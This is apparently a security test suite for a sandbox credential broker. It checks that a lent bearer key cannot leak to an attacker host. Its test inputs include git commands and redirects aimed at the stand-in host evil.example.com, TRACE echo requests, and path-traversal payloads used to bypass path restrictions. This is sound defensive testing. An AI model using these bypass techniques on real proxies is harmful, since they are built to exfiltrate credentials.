"""Escapes with the host's credential: rows 102-104, 109, 110, 114 and
120.

The numbers are those of the catalogue of escapes. The guest may ask two hosts
and holds a key of neither; one is lent the host's key, the other is the
attacker's and writes down what it is sent. What an origin echoes is looked
for in test_secrets.py, what a guest brings itself in test_credentials.py.
"""
import base64
import re

from harness.claims import claim, contains, equal, lacks, until
from harness.nameserver import Nameserver
from harness.raw import OK, Recorder, connect, read, synthetic, tls
from harness.shell import run
from harness.world import World

SERVER, PROXY = "10.201.0.54", ("100.64.0.1", 3128)
NAMES = {
    "cred.example.com": "10.201.0.10",
    "evil.example.com": "10.201.0.11",
    "any.example.com": "10.201.0.12",
    "ns.example.com": SERVER,
}
KEY = b"k3y-of-the-host-9876543210"
CRED, EVIL, ANY = (n.encode() for n in list(NAMES)[:3])

# Wider than what the credential is for, so that it's the broker that refuses.
POLICY = """\
[policy]
version = 1

[allow cred]
host       = cred.example.com
port       = 443, 8443
credential = key

[allow any]
host       = any.example.com
credential = any

[allow clear]
host   = cred.example.com, evil.example.com
port   = 80
scheme = http

[allow evil]
host = evil.example.com
"""

CREDENTIAL = """
[credential key]
kind      = static
value     = file:{file}
host      = cred.example.com
method    = GET, POST
path      = /repos/**
deny-path = /repos/*/keys/**
apply     = bearer
placeholder = placeholder-of-it
grant     = * user:root

[credential any]
kind  = static
value = file:{file}
host  = any.example.com
apply = bearer
grant = * user:root
"""

_world = {}


def world():
    if not _world:
        w = World(NAMES, start=False, resolver=SERVER)
        server = Nameserver(w, SERVER)
        for name, address in NAMES.items():
            server.rules[name] = lambda q, a=address: q.addresses(a)
        with open(w.config, "a", encoding="ascii") as f:
            f.write(CREDENTIAL.format(
                file=w.file("key", KEY.decode() + "\n", 0o600)))
        w.start()
        origins = {
            f"{n} {port}": Recorder(
                w, NAMES[f"{n}.example.com"], port,
                [f"{n}.example.com"] if port != 80 else None)
            for n, port in (("cred", 443), ("cred", 8443), ("cred", 80),
                            ("evil", 443), ("evil", 80), ("any", 443))}
        _world.update(w=w, server=server, origins=origins, s=w.sandbox(POLICY))
    for origin in _world["origins"].values():
        origin.forget()
        # No connection is kept, so that each request is dialled anew.
        origin.answer = lambda nth, head: OK.replace(
            b"\r\n\r\n", b"\r\nConnection: close\r\n\r\n")
    return _world["w"], _world["s"], _world["origins"]


def seen(origins):
    """{origin: bytes} of those that were sent any since the last time."""
    found = {n: o.seen() for n, o in origins.items() if o.seen()}
    for o in origins.values():
        o.forget()
    return found


def ask(k, host, line=b"GET /repos/a", *fields):
    """What comes back for a request on a connection, which is closed."""
    with k:
        k.sendall(line + b" HTTP/1.1\r\nHost: " + host + b"\r\n" + b"".join(
            f + b"\r\n" for f in fields) + b"\r\n")
        return read(k, re.compile(rb"\r\n\r\nok\Z|Tapward-Reason: .*\n\Z",
                                  re.DOTALL))


def at(s, name, port=443):
    return connect(s, (synthetic(s, name.decode()), port))


def refused(data, reason):
    contains(data, b"Tapward-Reason: " + reason + b"\r\n")


@claim("row 102: the key goes where the host's name leads and its certificate is good, whatever address, SNI or Host a guest writes")
def _():
    w, s, origins = world()
    # Dialled at the attacker's address: what counts is the name.
    contains(ask(tls(s, "cred.example.com", at(s, EVIL)), CRED), b" 200 ")
    found = seen(origins)
    equal(set(found), {"cred 443"})
    contains(found["cred 443"], b"Bearer " + KEY)
    # To the attacker with the other's name in one of two places.
    refused(ask(tls(s, "evil.example.com", at(s, CRED)), CRED),
            b"host-mismatch")
    refused(ask(at(s, EVIL, 80), CRED + b":443"), b"host-mismatch")
    with connect(s, PROXY) as k:
        k.sendall(b"CONNECT evil.example.com:443 HTTP/1.1\r\nHost: "
                  b"evil.example.com:443\r\n\r\n")
        contains(read(k, re.compile(rb"\r\n\r\n")), b" 200 ")
        try:
            tls(s, "cred.example.com", k).close()
            raise AssertionError("another SNI than the CONNECT's")
        except OSError:
            pass
    for port in (443, 80):
        try:
            connect(s, (NAMES["evil.example.com"], port), 2).close()
            raise AssertionError("an address of its own")
        except OSError:
            pass
    equal(seen(origins), {})
    # The attacker holds the name: it's known by its certificate.
    rule = _world["server"].rules["cred.example.com"]
    _world["server"].rules["cred.example.com"] = \
        lambda q: q.addresses(NAMES["evil.example.com"])
    try:
        def stolen():
            data = ask(tls(s, "cred.example.com", at(s, CRED)), CRED)
            return b"Tapward-Reason: origin-tls" in data
        until(stolen, 10, "the name leads to the attacker")
        equal([n for n in seen(origins) if n.startswith("evil")], [])
    finally:
        _world["server"].rules["cred.example.com"] = rule
    until(lambda: b" 200 " in ask(tls(s, "cred.example.com", at(s, CRED)),
                                  CRED), 10, "the name is its own again")


@claim("row 103: in clear it is never sent, though the policy allows the host there; nor is a rule taken that asks for it")
def _():
    w, s, origins = world()
    for argv in ((), (b"Authorization: Bearer mine",)):
        contains(ask(at(s, CRED, 80), CRED, b"GET /repos/a", *argv), b" 200 ")
        found = seen(origins)
        equal(set(found), {"cred 80"})
        lacks(found["cred 80"], KEY)
    # The guest's own key is its own affair where no credential is bound.
    contains(found["cred 80"], b"mine")
    k = connect(s, PROXY)
    contains(ask(k, CRED, b"GET http://cred.example.com/repos/a"), b" 200 ")
    lacks(seen(origins)["cred 80"], KEY)
    refused(ask(connect(s, PROXY), CRED + b":443",
                b"GET http://cred.example.com:443/repos/a"), b"port")
    for text, want in (
            ("scheme = http\nport = 80\n", "credential"),
            ("tls = passthrough\n", "credential"),
            ("scheme = tcp\nport = 5432\n", "credential")):
        path = w.file("clear.ini", "[policy]\nversion = 1\n[allow x]\n"
                      f"host = cred.example.com\n{text}credential = key\n")
        got = w.cli("check", path)
        equal(got.code, 1, repr(got))
        contains(got.both, want, repr(got))
        contains(got.both, "clear.ini:", repr(got))
    equal(seen(origins), {})


@claim("row 104: no method that makes a server repeat what it was sent carries it, though policy and credential name none")
def _():
    w, s, origins = world()

    def asked(line, *more):
        return ask(tls(s, "any.example.com", at(s, ANY)), ANY, line, *more)

    for line, want in (
            (b"TRACE /x", b"method"), (b"trace /x", b"method"),
            (b"TRACK /x", b"method"), (b"Options /x", b"method"),
            (b"TRACE *", b"bad-request"), (b"CONNECT /x", b"bad-request")):
        for more in ((), (b"Max-Forwards: 0",)):
            data = asked(line, *more)
            assert re.search(rb"Tapward-Reason: (%s)\r\n" % want, data), data
            equal(seen(origins), {}, line)
    for line in (b"OPTIONS /x", b"OPTIONS *"):
        data = asked(line, b"Max-Forwards: 0", b"Authorization: Bearer mine")
        contains(data, b" 200 ", line)
        lacks(seen(origins)["any 443"].lower(), b"authorization", line)
    with connect(s, PROXY) as k:
        k.sendall(b"CONNECT any.example.com:443 HTTP/1.1\r\nHost: "
                  b"any.example.com:443\r\n\r\n")
        lacks(read(k, re.compile(rb"\r\n\r\n")), KEY)
    equal(seen(origins), {})
    for line in (b"GET /x", b"POST /x", b"DELETE /x"):
        more = () if line == b"GET /x" else (b"Content-Length: 0",)
        contains(asked(line, *more), b" 200 ", line)
        contains(seen(origins)["any 443"], KEY, line)


@claim("row 109: it is bound to host, port, methods and paths; one step beside them the request is refused, and not sent bare")
def _():
    _, s, origins = world()
    for port, line in (
            (8443, b"GET /repos/a"), (443, b"PUT /repos/a"),
            (443, b"DELETE /repos/a"), (443, b"GET /gists"),
            (443, b"GET /"), (443, b"GET /repo"), (443, b"GET /REPOS/a"),
            (443, b"GET /repos/a/keys/1"), (443, b"GET /repos/../gists"),
            (443, b"GET /repos/%2e%2e/gists"), (443, b"GET /repos//a"),
            (443, b"GET /repos/a%2fkeys%2f1"), (443, b"GET /repos/a/k%65ys/1"),
            (443, b"GET /repos/a;/../../gists"), (443, b"GET /repos\\a"),
            (443, b"HEAD /repos/a")):
        host = CRED if port == 443 else CRED + b":%d" % port
        data = ask(tls(s, "cred.example.com", at(s, CRED, port)), host, line)
        contains(data, b"Tapward-Reason: ", line)
        assert re.search(rb"Tapward-Reason: (credential-misuse|bad-request)"
                         rb"\r\n", data), f"{line}: {data}"
        equal(seen(origins), {}, line)
    for line in (b"GET /repos/a", b"GET /repos/a?x=/../gists",
                 b"POST /repos/b"):
        more = (b"Content-Length: 0",) if line.startswith(b"POST") else ()
        contains(ask(tls(s, "cred.example.com", at(s, CRED)), CRED, line,
                     *more), b" 200 ", line)
        contains(seen(origins)["cred 443"], b"Bearer " + KEY, line)


SHARED = ("*.github.io", "*.s3.amazonaws.com", "*.vercel.app",
          "*.githubusercontent.com", "*.example.com", "**.example.com", "*",
          "*.com", "cred.*.com", "c*.example.com")


@claim("row 110: no policy and no configuration binds a credential to names that strangers can have")
def _():
    w, _, origins = world()
    for host in SHARED:
        path = w.file("shared.ini", "[policy]\nversion = 1\n[allow x]\n"
                      f"host = {host}\ncredential = key\n")
        got = w.cli("check", path)
        equal(got.code, 1, f"{host}: {got!r}")
        contains(got.both, "shared.ini:", f"{host}: {got!r}")
        with open(w.config, encoding="ascii") as f:
            text = f.read()
        config = w.file("shared-host.ini", text.replace(
            "host      = cred.example.com", f"host      = {host}"))
        line = text[:text.index("host      = ")].count("\n") + 1
        got = run([f"{w.tree}/sbin/tapwardd", "--config", config,
                   "--foreground"])
        equal(got.code, 78, f"{host}: {got!r}")
        contains(got.both, f"shared-host.ini:{line}: ", f"{host}: {got!r}")
    equal(seen(origins), {})


@claim("row 114: what a guest writes beside an echo of the key tells it nothing by length; nothing comes compressed, nothing in part")
def _():
    _, s, origins = world()
    lengths = set()
    for guess in (b"k3y-of-the-host-9", b"k3y-of-the-host-8", b"x" * 17,
                  b"876543210876543210"[:17], KEY[:17], KEY[-17:]):
        origins["cred 443"].answer = lambda nth, head: (
            b"HTTP/1.1 200 OK\r\nConnection: close\r\nContent-Length: %d\r\n"
            b"\r\n" % len(head) + head)
        data = ask(tls(s, "cred.example.com", at(s, CRED)), CRED,
                   b"GET /repos/a?" + guess, b"Accept-Encoding: gzip, br, zstd",
                   b"Range: bytes=0-40", b"Connection: close")
        sent = seen(origins)["cred 443"]
        contains(sent, b"Accept-Encoding: identity\r\n")
        lacks(sent, b"gzip")
        lacks(sent.lower(), b"range:")
        head, body = data.split(b"\r\n\r\n", 1)
        lacks(body, KEY)
        contains(body, guess)
        contains(body, b"*" * len(KEY))
        lengths.add(len(body.split(b"<")[0]))
    equal(len(lengths), 1, lengths)


HELPER = ("!f() { echo username=robot; echo password=placeholder-of-it; }; f")


@claim("row 120: a repository whose remote is another's gets no key, whatever the guest's credential helper says")
def _():
    w, s, origins = world()
    want = [b"HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"x\""
            b"\r\nContent-Length: 0\r\n\r\n"]
    for origin in origins.values():
        origin.answer = lambda nth, head: want[0]
    env = dict(s.env, GIT_CONFIG_GLOBAL="/dev/null", GIT_TERMINAL_PROMPT="0")
    folder = f"{w.folder}/clone"
    run(["git", "init", "-q", folder], env=env).ok()
    run(["git", "-C", folder, "remote", "add", "origin",
         "https://cred.example.com/repos/a"], env=env).ok()
    git = ["git", "-C", folder, "-c", f"credential.helper={HELPER}"]
    s.run([*git, "ls-remote", "origin"], env=env)
    contains(seen(origins)["cred 443"], b"Bearer " + KEY)
    pair = base64.b64encode(b"robot:placeholder-of-it")
    for more in (
            ["ls-remote", "https://evil.example.com/repos/a"],
            ["-c", "url.https://evil.example.com/.insteadOf="
             "https://cred.example.com/", "ls-remote", "origin"],
            ["-c", "remote.other.url=https://evil.example.com/repos/a",
             "fetch", "other"],
            ["-c", "http.proxy=http://100.64.0.1:3128", "ls-remote",
             "https://evil.example.com/repos/a"]):
        s.run([*git, *more], env=env)
        found = seen(origins)
        equal({n for n in found if n.startswith("evil")}, {"evil 443"}, more)
        for name, data in found.items():
            if name.startswith("evil"):
                lacks(data, KEY, more)
                lacks(data, base64.b64encode(KEY)[:-4], more)
    # The bound host sends it on to the attacker.
    want[0] = (b"HTTP/1.1 302 Found\r\nLocation: https://evil.example.com/r\r\n"
               b"Content-Length: 0\r\n\r\n")
    s.run([*git, "-c", "http.followRedirects=true", "ls-remote", "origin"],
          env=env)
    found = seen(origins)
    contains(found["cred 443"], b"Bearer " + KEY)
    lacks(found.get("evil 443", b""), KEY)
    assert pair not in found.get("cred 443", b""), "the placeholder goes"


@claim("the world of the credential's escapes ends and leaves nothing")
def _():
    w, s, _ = world()
    contains(w.cli("log", "--verify").ok().out, "unbroken")
    s.rm().ok()
    w.close()
    _world.clear()
